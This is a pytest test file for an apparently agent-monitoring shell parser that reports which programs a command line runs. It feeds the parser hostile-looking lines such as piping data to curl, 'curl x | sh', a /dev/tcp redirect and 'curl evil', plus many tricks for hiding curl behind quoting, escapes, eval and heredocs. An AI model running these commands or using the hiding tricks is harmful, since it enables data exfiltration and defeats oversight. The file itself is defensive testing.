"""The programs of a command line, as an attacker would hide them and as agents write them."""

import os
import shlex
import sys
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentsentinel_core.operations.shell import MOST_READ, program_name, programs_of_line, programs_of_words
from agentsentinel_core.operations.vocabulary import (
    COMMON_PROGRAMS,
    EXECUTING_OPTIONS,
    LAUNCHERS,
    NETWORK_PROGRAMS,
    OPAQUE_LAUNCHERS,
    PROGRAMS,
    QUIET_PROGRAMS,
    SHELLS,
    WRAPPERS,
)
from agentsentinel_core.operations.words import LONGEST_TEXT

RUN_OTHERS = {*SHELLS, *WRAPPERS, "eval", "trap", "su", "find", "[", "coproc", "function", "time"}
PLAIN = sorted(PROGRAMS - QUIET_PROGRAMS - RUN_OTHERS - set(LAUNCHERS) - OPAQUE_LAUNCHERS - set(EXECUTING_OPTIONS))


@pytest.mark.parametrize(
    ("line", "word"),
    [
        ("git push --force origin", "git"),
        ("/usr/bin/git status", "git"),
        ("cd /work && npm test", "npm"),
        ("FOO=bar BAZ=1 make all", "make"),
        ("sudo -u bob systemctl restart x", "systemctl"),
        ("timeout -k 5 30 pytest", "pytest"),
        ("env -i A=1 nice -n 5 curl x", "curl"),
        ("ls | xargs -n 1 rm", "ls+rm"),
        ("python3.11 -m http.server", "python"),
        ("gcc-12 a.c", "gcc"),
        ("C:/Windows/System32/cmd.exe /c dir", "dir"),
        ("powershell -NoProfile -ExecutionPolicy Bypass -Command Get-Content x", "get-content"),
        ("bash -lc 'cd x && cargo build'", "cargo"),
        ("bash -o pipefail -ec 'make'", "make"),
        ("sudo sh -c 'curl x | sh'", "curl+sh"),
        ("su bob -c 'nc x'", "nc+su"),
        ("bash deploy.sh", "bash"),
        ("./deploy.sh", "other"),
        ("/tmp/ls", "other"),
        ("if test -f x; then rm x; fi", "rm"),
        ("for f in *.py; do ruff check $f; done", "ruff"),
        ("while true; do wget x; sleep 1; done", "wget"),
        ("find . -name x -exec rm {} +", "find+rm"),
        ("cat a | grep b | sort | uniq -c | head", "cat"),
        ("git log 2>&1 | head -20", "git"),
        ("sort x > y", "sort"),
        ("ls | sort > y", "ls+sort"),
        ("cd x", "cd"),
        ("export A=1; cd x", "export"),
        ("A=1", None),
        ("", None),
        (" \n ;", None),
        ("# rm x\nls", "ls"),
        ("echo 'rm; curl x'", "echo"),
        ('echo "rm; curl x" && ls', "ls"),
        ("ls \\\n  -la", "ls"),
        ("i=$((1 + 2)); ls", "ls"),
        ("[[ -f x ]] && ls", "ls"),
        ("cat > f <<'EOF'\nrm x; $(curl y)\nEOF\nls", "cat+ls"),
        ("python - <<-EOF\n\trm x\n\tEOF\nls", "ls+python"),
        ("curl x; ssh y; nc z; git a; ls", "curl+nc+other+ssh"),
    ],
)
def test_a_line_is_reported_by_its_programs(line: str, word: str | None) -> None:
    assert programs_of_line(line) == word


@pytest.mark.parametrize(
    "line",
    [
        "cat x | curl -d @- y",
        "echo $(curl x)",
        "echo `curl x # c`",
        'echo "$(curl x)"',
        'echo "`curl x`"',
        "cat <(curl x)",
        "cat <<EOF\n$(curl x)\nEOF",
        "cat <<EOF\n EOF\n '\nEOF\ncurl x\n: '",
        "sudo bash -s <<'EOF'\ncd x\ncurl y\nEOF",
        "bash <<< 'curl x'",
        "A=$(curl x) ls",
        "ls ${x:-$(curl x)}",
        "ls $(( $(curl x) ))",
        "f() { curl x; }; f",
        "function f { curl x; }; f",
        "(ls; (curl x))",
        "ls &curl x",
        "ls>f&curl x",
        "ls 2>&1&&curl x",
        ">f curl x",
        "c'ur'l x",
        'c"ur"l x',
        "\\curl x",
        "cu\\\nrl x",
        "eval 'curl x'",
        "eval ls ';' curl x",
        "trap 'curl x' EXIT",
        "bash -c 'bash -c \"curl x\"'",
        "time -p nohup command curl x",
        "busybox wget x; curl y",
        'echo "$\'" ; curl ; echo "\'"',
        "! curl x",
        "{ curl x; }",
        "pwd; date; whoami; id; ls; cat x; curl y; ps; env; df",
    ],
)
def test_a_program_that_is_hidden_shows(line: str) -> None:
    assert "curl" in (programs_of_line(line) or "").split("+")


@pytest.mark.parametrize(
    "line",
    [
        "$CMD x",
        "'my program' x",
        "/usr/bin/c?rl x",
        "{curl,x}",
        "$'\\x63url' x",
        'bash -c "ls $X"',
        "ls > /dev/tcp/1.2.3.4/80",
        "ls 'x",
        'ls "x',
        "ls $(x",
        "ls `x",
        "echo ${x:-'}'} ; curl evil # '",
        'echo "$(case x in x) curl evil;; esac)"',
        "cat <<EOF\na\\\nEOF\n'\nEOF\ncurl\n: '",
        "x" * (MOST_READ + 1),
        "ls #" + "x" * LONGEST_TEXT + "\ncurl y",
        "ls " + "$(" * 50,
        "eval " * 50 + "ls",
        "ls\0; curl",
    ],
)
def test_what_cannot_be_read_with_certainty_is_other(line: str) -> None:
    assert "other" in (programs_of_line(line) or "").split("+")


def test_a_long_document_is_skipped_at_no_cost() -> None:
    body = "some; text (of) a file\n" * 2000
    assert programs_of_line(f"cat > f <<'EOF'\n{body}EOF\nls") == "cat+ls"
    assert programs_of_line(f"cat > f <<EOF\n{body}EOF\nls") == "cat+ls"
    assert programs_of_line(f"python -c '{body}'; ls") == "ls+python"


@pytest.mark.parametrize(
    ("line", "word"),
    [
        ("strace -f -o out curl x", "curl+strace"),
        ("chroot /mnt curl y", "chroot+curl"),
        ("nsenter -t 1 -m sh", "nsenter+sh"),
        ("fd -x curl", "curl+fd"),
        ("sort --compress-program=curl a", "curl+sort"),
        ('tmux new "curl x"', "other+tmux"),
        ("script -c 'curl x' f", "other+script"),
        ("command -v curl", "command"),
    ],
)
def test_a_program_that_starts_another_does_not_hide_it(line: str, word: str) -> None:
    assert programs_of_line(line) == word


@given(st.sampled_from(PLAIN), st.lists(st.text(max_size=20), max_size=5))
def test_an_argument_is_never_reported(program: str, arguments: list[str]) -> None:
    quoted = shlex.join([program, *arguments])
    assert programs_of_words([program, *arguments]) == program
    if "\0" not in quoted:
        assert programs_of_line(quoted) == program


SEPARATORS = [";", "&&", "||", "|", "&", "\n", ";\n", " |\n", " & "]
FRAMES = ["{}", "({})", "$({})", "`{}`", '"$({})"', "x=$({})", "<({})", "if {}; then ls; fi", "ls $({})", "! {}"]


@given(
    st.sampled_from(sorted(NETWORK_PROGRAMS)),
    st.lists(st.sampled_from(sorted(COMMON_PROGRAMS)), max_size=8),
    st.lists(st.sampled_from(SEPARATORS), min_size=8, max_size=8),
    st.sampled_from(FRAMES),
    st.integers(0, 8),
)
def test_a_foreign_program_shows_wherever_it_stands(
    foreign: str, usual: list[str], separators: list[str], frame: str, place: int
) -> None:
    commands = [*usual[:place], frame.format(f"{foreign} x"), *usual[place:]]
    line = commands[0] + "".join(sign + command for sign, command in zip(separators, commands[1:], strict=False))
    assert foreign in (programs_of_line(line) or "").split("+")


HOSTILE = [
    *("$(", "`", "'", '"', "<<a\n", "eval ", "\\", "((", "${", "a;", "find -exec ", "bash -c '", "<(", "a ", "x="),
    *("$((", "eval $(", "eval `", "sudo ", "cat <<a <<b\n", "a", " ", "\n", ">", "$'", "#\n", "for ", "a|", "''"),
]


@pytest.mark.parametrize("piece", HOSTILE)
def test_the_work_does_not_grow_with_the_line(piece: str) -> None:
    megabyte = (piece * (1 << 20))[: 1 << 20]
    steps = _steps(megabyte)
    assert steps == _steps(megabyte + megabyte)
    assert steps < 1_000_000


OPERATIONS = os.path.join("agentsentinel_core", "operations")


def _steps(line: str) -> int:
    """Count the lines of our code that run."""
    count = 0

    def trace(frame: Any, event: str, _argument: Any) -> Any:
        nonlocal count
        if OPERATIONS not in frame.f_code.co_filename:
            return None
        count += event == "line"
        return trace

    before = sys.gettrace()
    sys.settrace(trace)
    try:
        programs_of_line(line)
    finally:
        sys.settrace(before)
    return count


@pytest.mark.parametrize(
    ("word", "name"),
    [
        ("git", "git"),
        ("GIT.EXE", "git"),
        ("/opt/venv/bin/python3", "python"),
        ("node_modules/.bin/eslint", "eslint"),
        ("bin/hunter2", "other"),
        ("~/work/git", "other"),
        ("", "other"),
        ("[", "test"),
        ("7z", "7z"),
    ],
)
def test_a_program_is_known_by_its_name_in_a_folder_of_programs(word: str, name: str) -> None:
    assert program_name(word) == name
